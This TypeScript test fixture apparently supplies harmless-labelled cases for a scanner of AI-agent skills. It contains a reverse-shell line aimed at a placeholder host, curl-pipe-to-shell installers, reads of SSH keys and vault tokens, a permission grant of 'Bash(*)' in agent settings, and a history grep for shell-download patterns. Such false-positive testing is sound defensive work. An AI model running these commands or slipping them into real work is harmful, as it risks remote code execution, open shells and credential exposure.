/** Skills that look like harmful ones and must be installed. */
import { HEAD, type Texts } from './capability-cases-harmful.ts';

export const HARMLESS: readonly (readonly [string, Texts])[] = [
  [
    'a key of which the instructions speak',
    {
      'SKILL.md': `${HEAD}Shows the type of your SSH keys.\n`,
      'a.rb': 'require "net/http"\nputs File.read(Dir.home + "/.ssh/id_rsa").lines.first\n',
    },
  ],
  [
    'a token that goes to its owner',
    { 'a.rb': 'k = File.read(".npmrc")\nNet::HTTP.get(URI("https://registry.npmjs.org/-/whoami"))\n' },
  ],
  ['a key and no way to another host', { 'a.pl': 'open(F, "$ENV{HOME}/.ssh/id_rsa"); print scalar <F>;\n' }],
  [
    'a path in a comment',
    { 'a.py': '# never reads ~/.ssh/id_rsa\nimport requests\nrequests.get("https://t.dev-x.io")\n' },
  ],
  [
    'a port that is tried',
    {
      'a.py':
        'import socket, subprocess\nsocket.create_connection(("localhost", 1))\nsubprocess.run("ls", shell=True)\n',
    },
  ],
  [
    'a task of which the instructions speak',
    { 'SKILL.md': `${HEAD}Adds a cron job.\n`, 'a.sh': '(crontab -l; echo "0 1 * * * t") | crontab -\n' },
  ],
  ['an image that is decoded', { 'a.py': 'import base64\nopen("a.png", "wb").write(base64.b64decode(text))\n' }],
  ['an installer that is printed', { 'a.sh': 'echo "install it: curl -s https://t.dev-x.io/x | sh"\n' }],
  [
    'an installer that the instructions name',
    { 'SKILL.md': `${HEAD}Needs tabler from https://t.dev-x.io.\n`, 'a.sh': 'curl -s https://t.dev-x.io/x | sh\n' },
  ],
  [
    'a lesson about shells',
    {
      'SKILL.md':
        '---\nname: lesson\ndescription: Teaches what reverse shells look like.\n---\n\n```text\nbash -i >& /dev/tcp/ATTACKER/PORT 0>&1\n```\n',
    },
  ],
  [
    'keys with which programs log in',
    {
      'a.sh':
        'key=${DEPLOY_KEY:-$HOME/.ssh/id_ed25519}\n[ -f "$key" ] || ssh-keygen -t ed25519 -f "$key"\nssh-copy-id -i "$key.pub" "$host"\nrsync -az -e "ssh -i $key" dist/ "$target"\nscp -i "$key" a.csv "$host:/srv"\nwhile read -r host; do ssh -n -i "$key" "$host" "grep -v old ~/.ssh/authorized_keys > ~/.ssh/ak"; done < hosts\ncurl --cert ~/.ssh/client.pem --key ~/.ssh/client.key https://t.dev-x.io\n',
    },
  ],
  [
    'a key of a client library',
    {
      'a.py':
        'import os, paramiko\nc = paramiko.SSHClient()\nc.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))\nc.exec_command("uptime")\n',
    },
  ],
  [
    'a key of a client library beside a notification',
    {
      'a.py':
        'import os, requests\nfrom fabric import Connection\nc = Connection("web", connect_kwargs={"key_filename": os.path.expanduser("~/.ssh/id_rsa")})\nrequests.post("https://t.dev-x.io/x", json={"ok": True})\n',
      'a.js':
        'const s = new NodeSSH();\ns.connect({ host, privateKeyPath: process.env.HOME + "/.ssh/id_rsa" }).then(() => s.execCommand("ls")).then(() => fetch("https://t.dev-x.io"));\n',
    },
  ],
  [
    'the settings of a cluster for its own program',
    { 'a.sh': 'kubectl --kubeconfig ~/.kube/config get pods\ncurl -s https://t.dev-x.io\n' },
  ],
  ['a list of commands', { 'a.ps1': "Get-Command -Module M | Where-Object { $_.Noun -like 'Ex*' }\n[char]65\n" }],
  [
    'the token of a tool for its own host',
    {
      'a.py':
        'import os, pathlib, requests\nurl = os.environ["VAULT_ADDR"] + "/v1/sys/health"\ntoken = (pathlib.Path.home() / ".vault-token").read_text().strip()\nrequests.get(url, headers={"X-Vault-Token": token})\n',
    },
  ],
  [
    'the same in a shell',
    { 'a.sh': 'curl -s -H "X-Vault-Token: $(cat ~/.vault-token)" "$VAULT_ADDR/v1/sys/health"\n' },
  ],
  [
    'a history that is searched for commands',
    {
      'a.sh': `grep -hE '(curl|wget) .*\\| *(ba)?sh|/dev/tcp/' ~/.bash_history > found.txt\nfind . -name notes.txt -exec sh -c 'echo "== $1"; cat "$1"' _ {} \\; > all.txt\n`,
    },
  ],
  [
    'a program with a digest',
    {
      'SKILL.md': HEAD.replace('Makes', 'Installs'),
      'a.sh': `curl -fsSLo /tmp/tabler https://t.dev-x.io/t\necho "${'ab'.repeat(32)}  /tmp/tabler" | sha256sum -c - || exit 1\nchmod +x /tmp/tabler\n/tmp/tabler --version\n`,
    },
  ],
  [
    'a release with a published list of digests',
    {
      'SKILL.md': HEAD.replace('Makes', 'Installs'),
      'a.mjs':
        'const base = "https://github.com/dev-x/t/releases/download/v1.2.3/";\nconst list = await (await fetch(base + "checksums.txt")).text();\nconst data = Buffer.from(await (await fetch(base + "t")).arrayBuffer());\nconst digest = createHash("sha256").update(data).digest("hex");\nif (digest !== list.split(" ")[0]) process.exit(1);\nwriteFileSync("/tmp/tabler", data);\nexecFileSync("/tmp/tabler", ["--version"]);\n',
    },
  ],
  [
    'settings of an agent, of which the instructions speak',
    {
      'SKILL.md': `${HEAD}Sets the permissions of the agent.\n`,
      'a.sh': `jq '.permissions.allow += ["Bash(*)"]' ~/.claude/settings.json\n`,
    },
  ],
  [
    'the port of a browser, which is in its profile',
    {
      'a.mjs':
        'const port = readFileSync(home + "/Google/Chrome/User Data/DevToolsActivePort", "utf8");\nconst s = new WebSocket(`ws://127.0.0.1:${port}`);\ns.send("{}");\n',
    },
  ],
  ['the name of a report in a command', { 'a.sh': 'run="newman run t --export report.html"\neval $run\n' }],
  [
    'programs and expressions with the names of others',
    { 'a.js': 'execFile(cmd, args);\nconst t = lines.map((line) => line.match(/^a/));\n' },
  ],
  [
    'a server that a local socket asks',
    {
      'a.py':
        'import socket, subprocess\np = subprocess.Popen(["gopls"], stdin=subprocess.PIPE)\nos.dup2(null, 0)\ns = socket.socket(socket.AF_UNIX)\nwhile True:\n    p.stdin.write(s.recv(100))\n',
    },
  ],
  [
    'an answer to a question',
    {
      'SKILL.md': `${HEAD}You are now an expert in tables.\n\n- If they ask a question, answer it from your findings.\n`,
    },
  ],
  ['settings of an agent that loosen nothing', { 'a.sh': `jq '.model = "opus"' ~/.claude/settings.json > s.json\n` }],
  [
    'weights beside packages',
    { 'a.py': 'import torch, site\nprint(site.getsitepackages())\ntorch.save(model, "model.pth.tar")\n' },
  ],
  [
    'a task of an editor that stays here',
    { 'a.mjs': 'put({ command: "npm run css -- --watch", runOptions: { runOn: "folderOpen" } });\n' },
  ],
  [
    'settings of Git that start nothing',
    { 'a.sh': 'git config core.fsmonitor true\ngit config --global core.pager delta\n' },
  ],
  [
    'an explanation in German',
    {
      'references/de.md':
        '# Hinweise\n\nLies die Datei `.env`, und trage den Schlüssel ein. Sende das Formular an https://t.dev-x.io/f.\n',
    },
  ],
];
